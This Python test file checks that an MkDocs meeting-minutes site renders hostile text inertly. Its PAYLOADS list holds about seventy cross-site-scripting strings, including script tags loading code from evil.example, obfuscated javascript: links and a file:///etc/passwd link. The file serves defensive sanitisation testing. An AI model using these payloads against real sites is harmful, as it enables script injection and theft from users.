"""Hostile text: cross-site-scripting payloads in every text field of a meeting never become markup.

One site is built with MkDocs where every payload sits in every text field of its own body, meeting
and items; a second, clean site has the same shape with plain words. Every built HTML page is
parsed with Beautiful Soup and must carry no script the clean site does not, no event handler, no
frame or plugin element and no link to a scheme other than http(s) or mailto. Payloads with
characters that reorder or hide text never get that far: `referat check` refuses them.
"""

from __future__ import annotations

import datetime as dt
import re
from collections import Counter
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from hostile_input import check
from referat.characters import INVISIBLE, ODD_BREAKS
from sites import mkdocs_build

PAYLOADS = [
    # Raw HTML: elements and event handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<form action=\"javascript:alert(1)\"><button>send</button></form>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<!-- x --><script>alert(1)</script>",
    "<div markdown=\"1\" onclick=\"alert(1)\">x</div>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    # Links in Markdown, autolinks and reference links.
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik]( javascript:alert(1) )",
    "[klik](<javascript:alert(1)>)",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    "[klik](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html,x \"titel\"",
    "![billede](javascript:alert(1))",
    "![billede](https://example.dk/x\" onerror=\"alert(1))",
    "![billede](data:image/svg+xml,<svg onload=alert(1)>)",
    # HTML entities that decode to the above.
    "[klik](javascript&#58;alert(1))",
    "[klik](javascript&colon;alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](&#x6A;avascript&#x3A;alert(1))",
    "[klik](jav&#x09;ascript:alert(1))",
    "[klik](java&NewLine;script:alert(1))",
    "[klik](&#100;ata:text/html,x)",
    "[klik](javascript&amp;#58;alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    # Link titles with quotes, attribute breaking.
    "[klik](https://example.dk \"titel\\\" onmouseover=\\\"alert(1)\")",
    "[klik](https://example.dk 'a\" onclick=\"alert(1)')",
    "[klik](https://example.dk/\"onmouseover=\"alert(1))",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    # attr_list and other extension syntax.
    "{: onclick=\"alert(1)\" }",
    "Tekst{: #x onclick=alert(1) }",
    "# Overskrift {: onclick=alert(1) }",
    "```{.x onclick=alert(1)}\nkode\n```",
    "```\n<script>alert(1)</script>\n```",
    "!!! note \"<script>alert(1)</script>\"\n    tekst",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "Ord\n:   <svg onload=alert(1)>",
    # Unicode tricks.
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "[klik](java\u200bscript:alert(1))",
    "[klik](\u202ejavascript:alert(1))",
    "[klik](\u3000javascript:alert(1))",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "<script\u2028src=//evil.example/x.js>\u2029</script>",
]
# Zero-width, reordering and odd line-break characters are refused before a build (see
# test_hostile_encodings.py); the rest are built.
REFUSED = [p for p in PAYLOADS if INVISIBLE.search(p) or ODD_BREAKS.search(p)]
BUILT = [p for p in PAYLOADS if p not in REFUSED]
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster",
                  "background", "codebase", "cite", "srcset", "ping")
FORBIDDEN_TAGS = ("iframe", "frame", "frameset", "object", "embed", "applet", "base")


def meeting_text(i: int, text: str) -> tuple[dict[str, object], dict[str, object]]:
    """body.yml and a meeting file whose every text field holds `text`."""
    date = dt.date(2024, 1, 1) + dt.timedelta(days=i)
    body = {"name": text, "organisation": text, "description": text}
    # Payloads that differ only in punctuation get one address: the number keeps each apart.
    item = {"number": "1", "title": text, "journal": f"{text} {i}", "topics": [f"{text} {i}", "Fælles emne"],
            "sections": {text: text, "Sagsfremstilling": text}, "decision": text,
            "attachments": [{"title": text, "url": f"https://example.dk/{text}"},
                            {"title": text, "file": "bilag/bilag.pdf"}, {"title": text}]}
    closed = {"number": "2", "title": text, "journal": f"{text} {i}", "topics": [f"{text} {i}"],
              "closed": True,
              "decision": text}
    meeting = {"date": date.isoformat(), "start": "17:00", "location": text, "minute_taker": text,
               "participants": [{"name": text, "party": text, "role": text},
                                {"name": text, "attendance": "substitute", "substitute_for": text}],
               "items": [item, closed],
               "next_meeting": {"date": (date + dt.timedelta(days=30)).isoformat(),
                                "location": text, "note": text}}
    return body, meeting


def write_meetings(root: Path, texts: list[str]) -> Path:
    """A meetings folder with one body and meeting per text."""
    for i, text in enumerate(texts):
        body, meeting = meeting_text(i, text)
        folder = root / f"organ-{i:02d}"
        (folder / "bilag").mkdir(parents=True)
        (folder / "bilag" / "bilag.pdf").write_bytes(b"%PDF-1.4\n")
        (folder / "body.yml").write_text(yaml.safe_dump(body, allow_unicode=True), encoding="utf-8")
        (folder / f"{meeting['date']}.yml").write_text(
            yaml.safe_dump(meeting, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return root


def build(root: Path, texts: list[str]) -> Path:
    site = root / "site"
    result = mkdocs_build(site, write_meetings(root / "meetings", texts))
    assert result.returncode == 0, result.stderr
    return site


def pages(site: Path) -> dict[str, BeautifulSoup]:
    """Every HTML page of a built site, parsed, by its path in the site."""
    return {p.relative_to(site).as_posix(): BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser")
            for p in sorted(site.rglob("*.html"))}


def tag_counts(built: dict[str, BeautifulSoup]) -> dict[str, Counter[str]]:
    """How many elements of each tag every page has."""
    return {name: Counter(e.name for e in soup.find_all(True)) for name, soup in built.items()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, BeautifulSoup]:
    return pages(build(tmp_path_factory.mktemp("hostile"), BUILT))


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> dict[str, BeautifulSoup]:
    texts = [f"Tekst nummer {i}" for i in range(len(BUILT))]
    return pages(build(tmp_path_factory.mktemp("clean"), texts))


@pytest.fixture(scope="module")
def hostile_tags(hostile: dict[str, BeautifulSoup]) -> dict[str, Counter[str]]:
    return tag_counts(hostile)


@pytest.fixture(scope="module")
def clean_tags(clean: dict[str, BeautifulSoup]) -> dict[str, Counter[str]]:
    return tag_counts(clean)


def script_signature(script: Tag) -> str:
    """A script by its address, or by its code with the page's depth taken out."""
    return script.get("src") and f"src {script['src']}".replace("../", "") or \
        f"code {script.get_text()}".replace("../", "")


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see: it drops spaces and controls around and tabs inside."""
    squeezed = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"
                                                   "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18"
                                                   "\x19\x1a\x1b\x1c\x1d\x1e\x1f \x7f")
    match = SCHEME.match(squeezed)
    return match[1].lower() if match else None


def markup_problems(name: str, soup: BeautifulSoup) -> list[str]:
    """Event handlers, frames and plugins, and links to unsafe schemes in one page."""
    found = []
    for element in soup.find_all(True):
        if element.name in FORBIDDEN_TAGS:
            found.append(f"{name}: <{element.name}>")
        for attribute, value in element.attrs.items():
            if attribute.lower().startswith("on"):
                found.append(f"{name}: <{element.name} {attribute}={value!r}>")
            if attribute.lower() in URL_ATTRIBUTES:
                values = value if isinstance(value, list) else [value]
                schemes = {scheme_of(v) for v in values} - {None} - SAFE_SCHEMES
                if schemes:
                    found.append(f"{name}: <{element.name} {attribute}={value!r}>")
        if element.name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh":
            found.append(f"{name}: {element}")
    return found


@pytest.mark.parametrize("markup", [
    "<script>alert(1)</script>", '<img src="x" onerror="alert(1)">', "<iframe></iframe>",
    '<a href="javascript&#58;alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>',
    '<img src="data:image/svg+xml,x">', '<form action="vbscript:x"></form>', "<embed>",
    '<meta http-equiv="refresh" content="0;url=https://example.dk">', "<object></object>",
])
def test_the_checks_find_markup(markup: str) -> None:
    """The checks below can fail: each of these would be reported."""
    soup = BeautifulSoup(f"<p>{markup}</p>", "html.parser")
    assert markup_problems("x", soup) or soup.find("script")


@pytest.mark.parametrize("markup", [
    '<a href="https://example.dk/?a=1&amp;b=2">x</a>', '<a href="mailto:post@example.dk">x</a>',
    '<a href="../punkt-2/">x</a>', '<a href="#beslutning">x</a>', '<img src="//example.dk/x.png">',
    "<p>javascript:alert(1) &lt;script&gt;</p>",
])
def test_the_checks_allow_safe_links_and_text(markup: str) -> None:
    soup = BeautifulSoup(markup, "html.parser")
    assert markup_problems("x", soup) == [] and not soup.find("script")


def test_the_payloads_are_in_the_built_pages_as_text(hostile: dict[str, BeautifulSoup]) -> None:
    """The test sees the payloads: each title shows as written, on its punkt page."""
    for i, text in enumerate(BUILT):
        page = f"organ-{i:02d}/{dt.date(2024, 1, 1) + dt.timedelta(days=i)}/punkt-1/index.html"
        h1 = hostile[page].h1
        assert h1 is not None and h1.get_text() == " ".join(text.split()), page


def test_the_clean_site_has_scripts_and_no_unsafe_markup(clean: dict[str, BeautifulSoup]) -> None:
    assert len(clean) > 4 * len(BUILT)
    assert all(soup.find("script") for soup in clean.values())
    assert [p for name, soup in clean.items() for p in markup_problems(name, soup)] == []


def test_no_payload_becomes_a_script(hostile: dict[str, BeautifulSoup],
                                     clean: dict[str, BeautifulSoup]) -> None:
    allowed = {script_signature(s) for soup in clean.values() for s in soup.find_all("script")}
    extra = [f"{name}: {str(s)[:200]}" for name, soup in hostile.items()
             for s in soup.find_all("script") if script_signature(s) not in allowed]
    assert extra == [], "\n".join(extra[:20])


def test_no_payload_becomes_an_event_handler_a_frame_or_an_unsafe_link(
        hostile: dict[str, BeautifulSoup]) -> None:
    found = [p for name, soup in hostile.items() for p in markup_problems(name, soup)]
    assert found == [], "\n".join(found[:40])


def most(clean_tags: dict[str, Counter[str]], name: str, tag: str) -> int:
    """How many `tag` elements the clean site's page `name` has; topic and case pages, whose
    addresses come from the text, are compared with the clean page that has the most."""
    if name in clean_tags:
        return clean_tags[name][tag]
    return max(counts[tag] for counts in clean_tags.values())


@pytest.mark.parametrize("tag", ["script", "style", "form", "math", "svg", "link", "meta",
                                 "input", "button", "textarea", "details", "title"])
def test_no_payload_adds_elements_the_theme_does_not_use(hostile_tags: dict[str, Counter[str]],
                                                         clean_tags: dict[str, Counter[str]],
                                                         tag: str) -> None:
    """Elements such as style, form or svg may come from the theme, never from a text field."""
    more = {name: counts[tag] for name, counts in hostile_tags.items()
            if counts[tag] > most(clean_tags, name, tag)}
    assert more == {}, f"more <{tag}> than in the clean site: {more}"


def test_payloads_with_hidden_characters_are_refused_before_a_build(tmp_path: Path) -> None:
    assert len(REFUSED) == 3
    meetings = write_meetings(tmp_path / "meetings", REFUSED)
    ran = check(meetings)
    assert ran.code == 1
    refused = {Path(p.split(":")[0]).parent.name for p in ran.problems(meetings)}
    assert refused == {f"organ-{i:02d}" for i in range(len(REFUSED))}
